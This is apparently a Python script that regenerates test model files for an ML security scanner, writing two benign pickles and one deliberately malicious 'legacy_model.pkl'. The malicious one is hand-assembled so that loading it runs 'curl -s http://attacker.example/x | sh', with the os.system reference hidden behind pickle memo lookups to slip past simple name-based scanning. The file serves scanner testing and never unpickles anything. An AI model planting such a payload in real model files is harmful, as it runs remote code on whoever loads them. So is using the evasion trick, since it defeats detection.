"""Regenerates the model files in ../models deterministically, with the stdlib only (never loads them)."""
# Why this exists: the example ships real binary artefacts so `mlsec scan` exercises its model-file
# scanner, but binaries in git need a reviewable source. numpy/torch/sklearn are deliberately not
# required: their globals are stood in for by fake modules registered in sys.modules, which is all
# pickle needs to write `module\nname` references. Nothing here ever unpickles anything.
import collections
import io
import pickle
import struct
import sys
import types
import zipfile
from pathlib import Path

MODELS = Path(__file__).resolve().parent.parent / "models"
FIXED_TIME = (2024, 3, 18, 9, 30, 0)  # fixed zip timestamps keep the output byte-identical


def fake_module(name):
    """Registers an empty module (and its parents) so pickle can resolve globals by name."""
    parts = name.split(".")
    for i in range(1, len(parts) + 1):
        sub = ".".join(parts[:i])
        if sub not in sys.modules:
            sys.modules[sub] = types.ModuleType(sub)
    return sys.modules[name]


def fake_global(module, qualname, obj):
    """Places `obj` at module.qualname, so pickle writes exactly that reference."""
    obj.__module__ = module
    obj.__qualname__ = qualname
    obj.__name__ = qualname
    setattr(fake_module(module), qualname, obj)
    return obj


def floats(seed, n):
    """Deterministic pseudo-random float32 weights (LCG), small like a trained layer's."""
    out, x = [], seed
    for _ in range(n):
        x = (1103515245 * x + 12345) % (1 << 31)
        out.append((x / (1 << 31) - 0.5) * 0.2)
    return out


# --- models/fraud_model.pt: a benign PyTorch state_dict in torch.save's zip layout ---------------

def _rebuild_tensor_v2(*args):  # never called: only its name is pickled
    raise AssertionError("not for loading")


class FloatStorage:  # stands in for torch.FloatStorage; referenced by the persistent id only
    pass


fake_global("torch._utils", "_rebuild_tensor_v2", _rebuild_tensor_v2)
fake_global("torch", "FloatStorage", FloatStorage)


class Tensor:
    """Pickles the way torch.Tensor does: _rebuild_tensor_v2(storage, offset, size, stride, requires_grad, hooks)."""

    def __init__(self, key, shape, values):
        self.key, self.shape, self.values = key, shape, values

    def stride(self):
        s, acc = [], 1
        for dim in reversed(self.shape):
            s.insert(0, acc)
            acc *= dim
        return tuple(s)

    def __reduce_ex__(self, protocol):
        storage = StorageRef(self.key, len(self.values))
        return (_rebuild_tensor_v2, (storage, 0, tuple(self.shape), self.stride(), False, collections.OrderedDict()))


class StorageRef:
    def __init__(self, key, numel):
        self.key, self.numel = key, numel


class TorchPickler(pickle.Pickler):
    # torch.save stores tensor bytes outside the pickle, as ('storage', type, key, location, numel) ids.
    def persistent_id(self, obj):
        if isinstance(obj, StorageRef):
            return ("storage", FloatStorage, obj.key, "cpu", obj.numel)
        return None


def make_torch_checkpoint(path):
    # A 30 -> 16 -> 1 MLP, the size of the model train.py builds.
    layers = [("net.0.weight", (16, 30)), ("net.0.bias", (16,)), ("net.2.weight", (1, 16)), ("net.2.bias", (1,))]
    state, blobs = collections.OrderedDict(), {}
    for i, (name, shape) in enumerate(layers):
        n = 1
        for d in shape:
            n *= d
        values = floats(1000 + i, n)
        state[name] = Tensor(str(i), shape, values)
        blobs[str(i)] = struct.pack("<%df" % n, *values)
    buf = io.BytesIO()
    TorchPickler(buf, protocol=2).dump(state)  # torch.save's default pickle protocol is 2
    entries = [("archive/data.pkl", buf.getvalue()), ("archive/byteorder", b"little")]
    entries += [("archive/data/" + k, v) for k, v in blobs.items()]
    entries += [("archive/version", b"3\n")]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as z:  # torch writes entries uncompressed
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, FIXED_TIME), data)


# --- models/scaler.joblib: a fitted StandardScaler as plain pickle (joblib.load reads these too) ---

def _reconstruct(*args):
    raise AssertionError("not for loading")


class ndarray:
    pass


class dtype:
    def __init__(self, code):
        self.code = code

    def __reduce__(self):
        # numpy's dtype reduce: dtype('f8', False, True) plus its byte-order state.
        return (dtype, (self.code, False, True), (3, "<", None, None, None, -1, -1, 0))


fake_global("numpy.core.multiarray", "_reconstruct", _reconstruct)
fake_global("numpy", "ndarray", ndarray)
fake_global("numpy", "dtype", dtype)


class Array:
    """Pickles the way a 1-D float64 numpy array does."""

    def __init__(self, values):
        self.values = values

    def __reduce__(self):
        raw = struct.pack("<%dd" % len(self.values), *self.values)
        state = (1, (len(self.values),), dtype("f8"), False, raw)
        return (_reconstruct, (ndarray, (0,), b"b"), state)


class StandardScaler:
    pass


fake_global("sklearn.preprocessing._data", "StandardScaler", StandardScaler)


def make_scaler(path):
    n = 30
    scaler = StandardScaler()
    scaler.__dict__.update({
        "with_mean": True,
        "with_std": True,
        "copy": True,
        "n_features_in_": n,
        "n_samples_seen_": 284807,
        "mean_": Array([abs(v) * 50 for v in floats(7, n)]),
        "var_": Array([abs(v) * 900 + 1 for v in floats(8, n)]),
        "scale_": Array([(abs(v) * 900 + 1) ** 0.5 for v in floats(8, n)]),
        "_sklearn_version": "1.4.2",
    })
    path.write_bytes(pickle.dumps(scaler, protocol=4))


# --- models/legacy_model.pkl: a tampered "old model" whose unpickling runs a shell command ---------

def op_str(s):
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b  # SHORT_BINUNICODE


def make_malicious(path):
    # Hand-assembled so the callable is hidden behind the memo: 'os' and 'system' are memoized,
    # dropped, and fetched back with BINGET before STACK_GLOBAL — a name-based grep for
    # "os\nsystem" finds nothing. The result is stored under a plausible key of a model dict.
    cmd = "curl -s http://attacker.example/x | sh"
    body = b"".join([
        b"}\x94",                       # EMPTY_DICT, MEMOIZE(0)
        b"(",                           # MARK
        op_str("model_type"), op_str("GradientBoostingClassifier"),
        op_str("threshold"), b"G" + struct.pack(">d", 0.42),  # BINFLOAT
        op_str("os"), b"\x94",          # MEMOIZE(1)
        op_str("system"), b"\x94",      # MEMOIZE(2)
        b"00",                          # POP, POP: nothing visible on the stack any more
        op_str("trained_by"),
        b"h\x01h\x02\x93\x94",          # BINGET 1, BINGET 2, STACK_GLOBAL -> os.system, MEMOIZE(3)
        op_str(cmd), b"\x85",           # TUPLE1
        b"R",                           # REDUCE: os.system(cmd) runs at load time
        b"u",                           # SETITEMS
        b".",                           # STOP
    ])
    # Protocol 4 framing: PROTO 4, FRAME <len>, body.
    path.write_bytes(b"\x80\x04\x95" + struct.pack("<Q", len(body)) + body)


def main():
    MODELS.mkdir(exist_ok=True)
    make_torch_checkpoint(MODELS / "fraud_model.pt")
    make_scaler(MODELS / "scaler.joblib")
    make_malicious(MODELS / "legacy_model.pkl")
    for p in sorted(MODELS.iterdir()):
        print(f"{p.name:20} {p.stat().st_size:7} bytes")


if __name__ == "__main__":
    main()
